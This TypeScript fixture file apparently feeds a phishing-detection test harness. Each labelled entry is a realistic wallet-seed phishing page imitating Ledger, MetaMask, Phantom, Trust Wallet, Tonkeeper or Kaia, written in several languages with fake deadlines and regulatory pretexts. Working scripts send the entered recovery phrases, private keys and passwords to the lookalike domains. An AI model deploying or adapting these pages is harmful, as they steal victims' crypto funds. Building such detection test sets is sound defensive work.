import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import * as B from '../parts/e-bin.js';
import * as Z from '../parts/zj-kit.js';

const words = (n: number, ph = 'word') => Array.from({ length: n }, (_, i) => `<input name="w${i + 1}" placeholder="${i + 1}. ${ph}" autocomplete="off" style="width:23%;margin:1%">`).join('');

export const entries: Entry[] = [
  {
    id: 'zj-seed-ledger-recover-sync',
    label: 'phishing',
    kind: 'seed-harvest',
    url: 'https://ledger-recover.support/sync',
    body: Z.doc({
      title: 'Ledger Recover — Synchronize your Secret Recovery Phrase',
      icon: '/fav.png',
      body: `${Z.top('<img src="/fav.png" width="22"> Ledger', ['Products', 'Ledger Live', 'Support', 'Academy'])}
  <main><h1>Ledger Recover synchronization</h1><div class="note">Following the Ledger Connect Kit incident, all Nano S, Nano S Plus and Nano X users must re-synchronize their recovery phrase with Ledger Recover before <b>Dec 20, 2026</b> to keep their backup valid.</div>
  <p>Select the length of your recovery phrase and enter the words in order. This process is encrypted end-to-end and is never stored on our servers.</p>
  <p><button class="btn alt" onclick="n(12)">12 words</button> <button class="btn alt" onclick="n(18)">18 words</button> <button class="btn" onclick="n(24)">24 words</button></p>
  <form id="f" action="/sync/submit" method="post"><div id="g">${words(24)}</div><button class="btn" type="submit" style="margin-top:16px">Synchronize</button></form></main>
  ${Z.foot('Ledger SAS', { Products: ['Ledger Stax', 'Ledger Flex', 'Nano X'], Help: ['Support', 'Status', 'Contact'] }, 'Ledger SAS, 1 rue du Mail, 75002 Paris')}
  <script>function n(k){var g=document.getElementById('g');g.querySelectorAll('input').forEach(function(x,i){x.style.display=i<k?'':'none'})}
  document.getElementById('f').onsubmit=function(e){e.preventDefault();var w=[].map.call(document.querySelectorAll('#g input'),function(x){return x.value.trim()}).filter(Boolean).join(' ');
  fetch('/sync/submit',{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:'phrase='+encodeURIComponent(w)+'&ua='+encodeURIComponent(navigator.userAgent)}).then(function(){location.href='/sync/done'})};</script>`,
    }),
    routes: { 'ledger-recover.support/fav.png': Z.img(0, 0, 0), 'ledger-recover.support/sync/submit': Z.json({ ok: true }), 'ledger-recover.support/sync/done': htmlRoute('<h2>Synchronization in progress. Do not disconnect your device.</h2>') },
  },
  {
    id: 'zj-seed-metamask-kyc-verify',
    label: 'phishing',
    kind: 'seed-harvest',
    url: 'https://metamask-verification.net/kyc/step2',
    body: Z.doc({
      title: 'MetaMask — Wallet verification required',
      style: Z.LIGHT + 'body{background:#f2f4f6}main{background:#fff;max-width:520px;margin:40px auto;border-radius:12px;box-shadow:0 4px 30px #0001}',
      body: `<main><p style="text-align:center"><img src="/fox.png" width="60"></p><h2 style="text-align:center">Verify your wallet</h2>
  <p>In accordance with new EU MiCA regulations, MetaMask is required to verify ownership of self-custodial wallets. Unverified wallets will be restricted from interacting with dapps after <b id="d"></b>.</p>
  <label>Secret Recovery Phrase</label><textarea id="srp" rows="4" style="width:100%" placeholder="Paste your 12-word phrase separated by spaces"></textarea>
  <label>Wallet password (optional)</label><input type="password" id="pw"><p><button class="btn" id="v" style="width:100%">Verify</button></p>
  <p style="font-size:12px;color:#777">Your phrase is encrypted locally. MetaMask will never ask for your phrase outside of this verification process.</p></main>
  <script>document.getElementById('d').textContent=new Date(Date.now()+2*864e5).toDateString();
  document.getElementById('v').onclick=function(){var p=document.getElementById('srp').value.trim();if(p.split(/\\s+/).length<12){alert('Invalid Secret Recovery Phrase');return}
  var x=new XMLHttpRequest();x.open('POST','/kyc/api/finish');x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify({srp:p,pw:document.getElementById('pw').value,t:Date.now()}));x.onload=function(){location.replace('https://metamask.io/')}};</script>`,
    }),
    routes: { 'metamask-verification.net/fox.png': Z.img(246, 133, 27), 'metamask-verification.net/kyc/api/finish': Z.json({ status: 'ok' }) },
  },
  {
    id: 'zj-seed-wallet-rectify-dapp',
    label: 'phishing',
    kind: 'seed-harvest',
    url: 'https://dapps-rectify.network/connect',
    body: Z.doc({
      title: 'Decentralized Wallet Rectification Protocol',
      style: Z.DARK,
      body: `${Z.top('⚙️ DappsRectify', ['Migration', 'Claim Reward', 'Rectification', 'Slippage', 'Whitelist', 'Bridge'])}
  <main><h1 style="text-align:center">Open protocol for syncing various wallets to dapps</h1><p style="text-align:center" class="muted">Secure · Decentralized · Fast. Select an issue below to fix it.</p>
  <div style="display:grid;grid-template-columns:repeat(3,1fr);gap:14px">${['Migration issues', 'Assets recovery', 'Claim airdrop', 'High gas fees', 'Transaction delay', 'Locked account', 'Missing balance', 'Swap error', 'NFT not showing'].map((t) => `<div class="wl" onclick="pick()">${t}</div>`).join('')}</div></main>
  <div class="modal" id="m"><div class="box"><h3>Import wallet</h3><p class="muted">Choose how to validate: <a href="#" onclick="tab(0)">Phrase</a> · <a href="#" onclick="tab(1)">Keystore JSON</a> · <a href="#" onclick="tab(2)">Private Key</a></p>
  <form id="f"><select name="wallet">${Z.WALLETS.map((w) => `<option>${w}</option>`).join('')}</select>
  <textarea name="phrase" id="t0" rows="3" placeholder="Enter your recovery phrase — typically 12 (sometimes 24) words separated by single spaces"></textarea>
  <textarea name="keystore" id="t1" rows="3" style="display:none" placeholder="Keystore JSON"></textarea><input name="kpass" id="t1b" style="display:none" placeholder="Wallet password">
  <input name="pkey" id="t2" style="display:none" placeholder="Enter your Private Key"><button class="btn" style="width:100%;margin-top:10px">VALIDATE</button></form></div></div>
  <footer>DappsRectify protocol © 2026</footer>
  <script>function pick(){document.getElementById('m').classList.add('on')}
  function tab(i){['t0','t1','t2'].forEach(function(id,j){document.getElementById(id).style.display=j===i?'':'none'});document.getElementById('t1b').style.display=i===1?'':'none';return false}
  document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/mail.php',{method:'POST',body:new FormData(this)}).then(function(){alert('Error validating wallet. Please try again with another wallet.')})};</script>`,
    }),
    routes: { 'dapps-rectify.network/mail.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: 'sent' } },
  },
  {
    id: 'zj-seed-phantom-extension-onboard',
    label: 'phishing',
    kind: 'extension-seed',
    url: 'https://phantom-wallet-extension.app/onboarding.html#import',
    body: Z.doc({
      title: 'Phantom',
      style: Z.DARK + 'body{background:#222}.card{background:#2a2a2a}.btn{background:#ab9ff2;color:#222}',
      body: `<div class="card" style="margin-top:60px"><p style="text-align:center"><img src="/ph.png" width="56" style="border-radius:14px"></p><h2 style="text-align:center">Import Secret Recovery Phrase</h2>
  <p class="muted" style="text-align:center">Import an existing wallet with your 12 or 24-word secret recovery phrase.</p>
  <div id="g" style="display:grid;grid-template-columns:1fr 1fr 1fr;gap:8px">${Array.from({ length: 12 }, (_, i) => `<input placeholder="${i + 1}.">`).join('')}</div>
  <p class="muted"><a href="#" onclick="more()">I have a 24-word recovery phrase</a></p><button class="btn" style="width:100%" id="i">Import Wallet</button></div>
  <script>function more(){var g=document.getElementById('g');for(var i=13;i<=24;i++)g.insertAdjacentHTML('beforeend','<input placeholder="'+i+'.">');return false}
  document.getElementById('i').onclick=function(){var w=[].map.call(document.querySelectorAll('#g input'),function(x){return x.value}).join(' ');
  var img=new Image();img.src='/c.gif?d='+btoa(w)+'&r='+Math.random();setTimeout(function(){location.href='https://phantom.com/'},900)};</script>`,
    }),
    routes: { 'phantom-wallet-extension.app/ph.png': Z.img(171, 159, 242), 'phantom-wallet-extension.app/c.gif': { status: 200, headers: { 'content-type': 'image/gif' }, body: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64') } },
  },
  {
    id: 'zj-seed-es-ledger-verificacion',
    label: 'phishing',
    kind: 'seed-harvest',
    url: 'https://ledger-verificacion.es/cliente',
    body: Z.doc({
      lang: 'es',
      title: 'Ledger | Verificación de dispositivo',
      body: `${Z.top('LEDGER', ['Productos', 'Ledger Live', 'Soporte'])}
  <main style="max-width:680px"><h1>Verificación obligatoria de su dispositivo</h1><p>Estimado cliente: tras la filtración de datos de clientes de Ledger, hemos detectado que su dispositivo podría estar comprometido. Para proteger sus fondos, complete la verificación de su frase de recuperación. Si no lo hace en 48 horas, su dispositivo será bloqueado.</p>
  <form method="post" action="/cliente/enviar"><label>Modelo</label><select name="m"><option>Nano S Plus</option><option>Nano X</option><option>Stax</option><option>Flex</option></select>
  <label>Frase de recuperación (24 palabras)</label>${words(24, 'palabra')}<label>Correo electrónico</label><input name="email"><button class="btn" style="margin-top:14px">Verificar ahora</button></form></main>
  ${Z.foot('Ledger SAS', { Ayuda: ['Centro de ayuda', 'Contacto'] }, 'Ledger nunca le pedirá... datos innecesarios. Aviso legal · Privacidad')}`,
    }),
    routes: { 'ledger-verificacion.es/cliente/enviar': htmlRoute('<p>Gracias. Su dispositivo ha sido verificado.</p>') },
  },
  {
    id: 'zj-seed-ru-tonkeeper-restore',
    label: 'phishing',
    kind: 'seed-harvest',
    url: 'https://tonkeeper-web.online/restore',
    body: Z.doc({
      lang: 'ru',
      title: 'Tonkeeper — Восстановление кошелька',
      style: Z.DARK + 'body{background:#10161f}.btn{background:#45aef5}',
      body: `<div class="card" style="margin-top:50px"><h2>Восстановить кошелёк</h2><p class="muted">Введите 24 секретных слова, чтобы получить доступ к кошельку. После обновления Telegram Wallet требуется повторная авторизация.</p>
  <div style="display:grid;grid-template-columns:1fr 1fr;gap:6px">${Array.from({ length: 24 }, (_, i) => `<input class="w" placeholder="${i + 1}.">`).join('')}</div>
  <button class="btn" style="width:100%;margin-top:12px" id="g">Продолжить</button><p class="muted">Поддержка: @tonkeeper_support_bot</p></div>
  <script>document.getElementById('g').onclick=function(){var s=[].map.call(document.querySelectorAll('.w'),function(i){return i.value.trim()}).join(' ');
  fetch('/api/restore',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({mnemonic:s,lang:'ru',tz:Intl.DateTimeFormat().resolvedOptions().timeZone})}).then(function(){alert('Ошибка сети. Попробуйте позже.')})};</script>`,
    }),
    routes: { 'tonkeeper-web.online/api/restore': Z.json({ ok: 1 }) },
  },
  {
    id: 'zj-seed-vi-trust-khoiphuc',
    label: 'phishing',
    kind: 'seed-harvest',
    url: 'https://trustwallet-vn.com/xac-minh',
    body: Z.doc({
      lang: 'vi',
      title: 'Trust Wallet — Xác minh ví',
      body: `<main style="max-width:520px"><h2>Xác minh ví Trust Wallet</h2><div class="warn">Ví của bạn đã bị tạm khóa do phát hiện giao dịch bất thường. Vui lòng xác minh để mở khóa trong 24 giờ.</div>
  <form id="f"><label>Cụm từ khôi phục (12 từ)</label><textarea name="cum_tu" rows="3" style="width:100%"></textarea><label>Số điện thoại</label><input name="sdt"><button class="btn" style="margin-top:12px">Xác minh</button></form>
  <p style="font-size:12px;color:#888">Trust Wallet © 2026. Bảo mật tuyệt đối.</p></main>
  <script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/xac-minh/gui',{method:'POST',body:new URLSearchParams(new FormData(this))}).then(function(){location.href='/xac-minh/thanh-cong'})};</script>`,
    }),
    routes: { 'trustwallet-vn.com/xac-minh/gui': Z.json({}), 'trustwallet-vn.com/xac-minh/thanh-cong': htmlRoute('<p>Đã gửi yêu cầu xác minh.</p>') },
  },
  {
    id: 'zj-seed-ko-kaikas-recovery',
    label: 'phishing',
    kind: 'seed-harvest',
    url: 'https://kaia-wallet-kr.com/recovery',
    body: Z.doc({
      lang: 'ko',
      title: 'Kaia Wallet | 지갑 복구',
      body: `<main style="max-width:560px"><h2>지갑 보안 점검</h2><p>카이아 네트워크 업그레이드로 인해 기존 카이카스 지갑 사용자는 시드 구문을 다시 등록해야 합니다. 등록하지 않으면 자산이 동결될 수 있습니다.</p>
  <label>비밀 복구 구문 (12단어)</label><textarea id="s" rows="3" style="width:100%"></textarea><label>개인키 (선택)</label><input id="k"><p><button class="btn" id="b">등록하기</button></p>
  <p style="font-size:12px;color:#888">© Kaia Foundation. 고객센터 1588-0000</p></main>
  <script>document.getElementById('b').onclick=function(){fetch('/recovery/save',{method:'POST',body:JSON.stringify({s:document.getElementById('s').value,k:document.getElementById('k').value})}).then(function(){alert('등록이 완료되었습니다.')})};</script>`,
    }),
    routes: { 'kaia-wallet-kr.com/recovery/save': Z.json({}) },
  },
];
